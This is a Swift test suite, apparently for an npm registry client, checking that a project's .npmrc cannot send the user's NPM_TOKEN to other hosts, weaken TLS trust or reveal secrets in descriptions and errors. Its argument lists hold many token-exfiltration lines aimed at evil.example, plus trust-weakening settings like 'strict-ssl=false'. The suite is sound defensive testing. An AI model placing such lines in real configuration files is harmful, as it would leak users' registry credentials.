import Registry
import RegistryHTTP
import Testing

@Suite("A project's .npmrc is somebody else's")
struct ProjectFileTests {
    static let variables = ["NPM_TOKEN": "canary"]

    @Test(
        "a variable goes nowhere that the user did not name",
        arguments: [
            "//evil.example/:_authToken=${NPM_TOKEN}", "//evil.example/:_auth=${NPM_TOKEN}",
            "//evil.example/:_password=${NPM_TOKEN}", "//evil.example/:username=${NPM_TOKEN}",
            "//evil.example/${NPM_TOKEN}/:_authToken=x", "registry=https://evil.example/${NPM_TOKEN}/",
            "registry=https://${NPM_TOKEN}.evil.example/", "registry=https://${NPM_TOKEN}@evil.example/",
            "@evil:registry=https://evil.example/?${NPM_TOKEN}", "https-proxy=http://${NPM_TOKEN}.evil.example:1/",
            "proxy=${NPM_TOKEN}.evil.example", "//registry.npmjs.org.evil.example/:_authToken=${NPM_TOKEN}",
            "//registry.npmjs.org:8443/:_authToken=${NPM_TOKEN}", "//user@evil.example/:_authToken=${NPM_TOKEN}",
            "@evil:registry=${NPM_TOKEN}", "@${NPM_TOKEN}:registry=https://registry.example/",
            #"//evil.example/:_authToken="${NPM_TOKEN}""#,
        ])
    func refused(_ line: String) throws {
        let read = try configuration(
            environment: Self.variables, project: "; a comment\n\(line)", user: "registry=https://registry.example/")
        #expect(read.credentials.grants.isEmpty)
        #expect(read.registry == "https://registry.example/")
        #expect(read.scopedRegistries.isEmpty)
        #expect(read.httpsProxy == nil)
        #expect(read.notices.count == 1)
        #expect(read.notices[0].hasPrefix("./.npmrc: line 2: "))
        #expect(!read.notices[0].contains("canary"))
    }

    @Test(
        "it goes to the default registry and to those of the user",
        arguments: ["registry.npmjs.org", "named.example", "scope.example", "token.example:8443", "variable.example"])
    func allowed(_ host: String) throws {
        let read = try configuration(
            environment: Self.variables.merging(["npm_config_@v:registry": "https://variable.example/"]) { old, _ in old
            },
            project: "//\(host)/:_authToken=${NPM_TOKEN}",
            user: """
                registry=https://named.example/
                @s:registry=https://scope.example/
                //token.example:8443/path/:_authToken=other
                """)
        #expect(try read.header("https://\(host)/x") == Secret("Bearer canary"))
        #expect(read.notices.isEmpty)
    }

    @Test(
        "nor over another scheme than that of the user",
        arguments: [
            "@s:registry=http://${HOST}:443/", "@s:registry=http://${NPM_TOKEN}@registry.example:443/",
            "proxy=http://${HOST}:443/",
        ])
    func scheme(_ line: String) throws {
        let read = try configuration(
            environment: ["NPM_TOKEN": "canary", "HOST": "registry.example"], project: line,
            user: "registry=https://registry.example/")
        #expect(read.scopedRegistries.isEmpty)
        #expect(read.httpProxy == nil)
        #expect(read.credentials.grants.isEmpty)
        #expect(read.notices.count == 1)
    }

    @Test(
        "nor into a path, which is shown and recorded",
        arguments: [
            "https://registry.example/${NPM_TOKEN}/", "https://registry.example/?t=${NPM_TOKEN}",
            "https://registry.example${SLASH}${NPM_TOKEN}", "${BASE}${NPM_TOKEN}",
        ])
    func path(_ address: String) throws {
        let read = try configuration(
            environment: ["NPM_TOKEN": "canary", "BASE": "https://registry.example/", "SLASH": "/"],
            project: "registry=\(address)\n@s:registry=\(address)", user: "registry=https://registry.example/")
        #expect(read.registry == "https://registry.example/")
        #expect(read.scopedRegistries.isEmpty)
        #expect(read.notices.count == 2)
    }

    @Test(
        "but a variable may name the registry that the user named",
        arguments: ["${BASE}", "${BASE}?", "https://${HOST}/npm/", "https://${NPM_TOKEN}@registry.example/npm/"])
    func sameRegistry(_ address: String) throws {
        let read = try configuration(
            environment: [
                "NPM_TOKEN": "canary", "BASE": "https://registry.example/npm/", "HOST": "registry.example",
            ], project: "@s:registry=\(address)", user: "registry=https://registry.example/")
        #expect(read.scopedRegistries["s"]?.hasPrefix("https://registry.example/npm/") == true)
        #expect(read.notices.isEmpty)
    }

    @Test("it may not say where the user's configuration is", arguments: ["userconfig", "globalconfig", "prefix"])
    func otherFiles(_ key: String) throws {
        #expect(try configuration(project: "\(key)=/elsewhere").notices.count == 1)
    }

    @Test("a token that is written out is the project's own affair")
    func literal() throws {
        let read = try configuration(project: "//evil.example/:_authToken=abc")
        #expect(try read.header("https://evil.example/x") == Secret("Bearer abc"))
        #expect(read.notices.isEmpty)
    }

    @Test("it cannot send the user's token elsewhere by naming another registry")
    func otherRegistry() throws {
        let read = try configuration(
            project: "registry=https://evil.example/", user: "//registry.npmjs.org/:_authToken=canary")
        #expect(read.registry == "https://evil.example/")
        #expect(try read.header("https://evil.example/axios") == nil)
    }

    @Test("it may not decide whom to trust", arguments: ["strict-ssl=false", "cafile=./ca.pem", "ca[]=x", "ca=x"])
    func trust(_ line: String) throws {
        let read = try configuration(project: line)
        #expect(read.verifiesTLS)
        #expect(read.certificateFiles.isEmpty)
        #expect(read.certificates.isEmpty)
        #expect(read.notices.count == 1)
    }

    @Test("it may ask for checks that the user turned off")
    func tighter() throws {
        let read = try configuration(project: "strict-ssl=true", user: "strict-ssl=false")
        #expect(read.verifiesTLS)
        #expect(read.notices.isEmpty)
    }

    @Test("what the user turned off is off, and that is said")
    func userDecides() throws {
        let read = try configuration(user: "strict-ssl=false")
        #expect(!read.verifiesTLS)
        #expect(read.notices.count == 1)
    }
}

@Suite("Secrets")
struct SecretTests {
    @Test("appear in no description of what holds them")
    func descriptions() throws {
        let read = try configuration(
            environment: ["T": "canary", "HTTPS_PROXY": "http://canary:canary@p:1"],
            user: """
                //h/:_authToken=${T}
                //b/:username=u
                //b/:_password=Y2FuYXJ5
                registry=https://canary:canary@r.example/
                """)
        var dumped = ""
        dump(read, to: &dumped)
        for text in [dumped, "\(read)", String(reflecting: read), "\(read.credentials)"] {
            #expect(text.contains("<secret>"))
            #expect(!text.contains("canary") && !text.contains("Y2FuYXJ5") && !text.contains("Y2FuYXJ5OmNhbmFyeQ"))
        }
    }

    @Test("of a proxy are not in the error about it")
    func proxy() throws {
        var read = RegistryConfiguration()
        read.httpsProxy = Secret("http://name:canary@not a host")
        #expect(throws: HTTPSetupError.badProxy("http://not a host")) {
            try HTTPTransport(configuration: read, readFile: { _ in [] })
        }
    }

    @Test("what npm exports of a project's file to what it starts is the project's still")
    func exported() throws {
        let project = "registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\ncafile=/project/ca.pem"
        let exported = [
            "npm_config_user_agent": "npm/10", "npm_config_registry": "https://evil.example/",
            "npm_config_cafile": "/project/ca.pem", "NPM_TOKEN": "canary",
        ]
        let read = try configuration(environment: exported, project: project, user: "")
        #expect(read.credentials.grants.isEmpty && read.certificateFiles.isEmpty)
        #expect(read.registry == "https://evil.example/")
        let own = try configuration(
            environment: exported.merging(["npm_config_registry": "https://own.example/"]) { $1 }, project: project,
            user: "")
        #expect(own.registry == "https://own.example/")
    }
}
